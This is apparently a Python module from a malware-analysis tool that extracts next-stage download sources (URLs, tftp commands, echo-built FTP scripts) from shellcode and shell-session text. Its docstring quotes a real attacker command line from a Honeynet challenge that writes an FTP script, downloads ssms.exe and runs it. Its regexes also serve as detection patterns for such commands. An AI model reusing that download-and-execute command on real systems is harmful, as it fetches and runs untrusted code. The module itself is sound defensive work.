"""Offers: where a payload's next stage comes from, read out of URLs and shell commands.

Three shapes cover the bots of the period:

* a URL handed to ``URLDownloadToFileA`` or written in a command (``http``, ``https``, ``ftp``,
  ``tftp``);
* ``tftp -i HOST GET FILE [LOCAL]`` (Windows' TFTP client; ``-i`` is binary mode);
* an FTP script written with ``echo`` and run with ``ftp -s:``, as in the Honeynet Forensic
  Challenge 2010 #1 bind-shell session::

      echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &echo get ssms.exe >> o &echo quit >> o
      &ftp -n -s:o &del /F /Q o &ssms.exe

  Script commands understood: ``open HOST [PORT]``, ``user NAME [PASS]``, ``get``/``recv``/
  ``mget FILE [LOCAL]``; the rest (``binary``, ``bye``, ``quit``, ...) is ignored. Commands:
  Microsoft's ``ftp`` and ``tftp`` command-line references.

Pure functions over text; attacker strings stay data (nothing is resolved or fetched).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from urllib.parse import urlsplit

from stormwatch.detect.shellcode.report import Offer

DEFAULT_PORTS = {"http": 80, "https": 443, "ftp": 21, "tftp": 69}
URL_RE = re.compile(r"(?i)\b(?:https?|ftp|tftp)://[^\s\"'<>&|^`]+")
_TFTP_RE = re.compile(r"(?i)\btftp(?:\.exe)?\s+(?:-i\s+)?([\w.\-]+)\s+get\s+([^\s&|]+)(?:\s+([^\s&|]+))?")
_ECHO_RE = re.compile(r"(?is)^\s*(?:cmd(?:\.exe)?\s+/[ck]\s+)?@?echo\s+(.*?)\s*(>>?)\s*\"?([^\s\">]+)\"?\s*$")
_FTP_S_RE = re.compile(r"(?i)\bftp(?:\.exe)?\b[^&|\r\n]*?-s:\"?([^\s\"&|]+)")
_SPLIT_RE = re.compile(r"&&|\|\||[&|\r\n]")


def _basename(path: str) -> str:
    return re.split(r"[\\/]", path)[-1]


def offer_from_url(url: str, local: str = "") -> Offer | None:
    """The offer of one URL (None when it is not a URL of a download protocol)."""
    try:
        parts = urlsplit(url.strip())
        port = parts.port
    except ValueError:
        return None
    scheme = parts.scheme.lower()
    host = parts.hostname or ""
    if scheme not in DEFAULT_PORTS or not host:
        return None
    path = parts.path + (f"?{parts.query}" if parts.query else "")
    name = _basename(local) if local else _basename(parts.path)
    return Offer(scheme, host, port or DEFAULT_PORTS[scheme], path, url.strip(), name)


def ftp_script_offers(script: str) -> list[Offer]:
    """Offers of an FTP client script (one ``get`` each)."""
    host, port = "", 21
    out: list[Offer] = []
    for raw in script.splitlines():
        words = raw.strip().split()
        if not words:
            continue
        cmd = words[0].lower()
        if cmd in ("open", "o") and len(words) >= 2:
            host = words[1]
            if len(words) >= 3 and words[2].isdigit():
                port = int(words[2]) & 0xFFFF
        elif cmd in ("get", "recv", "mget") and len(words) >= 2 and host:
            remote = words[1]
            local = words[2] if len(words) >= 3 and cmd != "mget" else remote
            out.append(Offer("ftp", host, port, remote, f"ftp://{host}:{port}/{remote.lstrip('/')}", _basename(local)))
    return out


def offers_from_command(command: str, files: Mapping[str, bytes] | None = None) -> list[Offer]:
    """Offers of one command line (or a shell session's text): URLs, tftp, echo-built FTP scripts.
    ``files``: contents of files the payload wrote itself (an ``ftp -s:`` script, for one)."""
    out: list[Offer] = []
    scripts: dict[str, list[str]] = {k.lower(): v.decode("latin-1").splitlines() for k, v in (files or {}).items()}
    for part in _SPLIT_RE.split(command):
        m = _ECHO_RE.match(part)
        if m:
            text, mode, name = m.groups()
            lines = scripts.setdefault(name.lower(), [])
            if mode == ">":
                lines.clear()
            lines.append(text)
            continue
        f = _FTP_S_RE.search(part)
        if f:
            name = f.group(1).lower()
            script = scripts.get(name) or next((v for k, v in scripts.items() if _basename(k) == _basename(name)), [])
            out.extend(ftp_script_offers("\n".join(script)))
    for t in _TFTP_RE.finditer(command):
        host, remote, local = t.group(1), t.group(2), t.group(3) or t.group(2)
        out.append(Offer("tftp", host, 69, remote, f"tftp://{host}/{remote.lstrip('/')}", _basename(local)))
    for u in URL_RE.finditer(command):
        offer = offer_from_url(u.group())
        if offer is not None:
            out.append(offer)
    return dedupe(out)


def dedupe(offers: Iterable[Offer]) -> list[Offer]:
    """Offers in first-seen order without repeats (same protocol, host, port and path)."""
    seen: set[tuple[str, str, int, str]] = set()
    out = []
    for o in offers:
        key = (o.protocol, o.host.lower(), o.port, o.path)
        if key not in seen:
            seen.add(key)
            out.append(o)
    return out
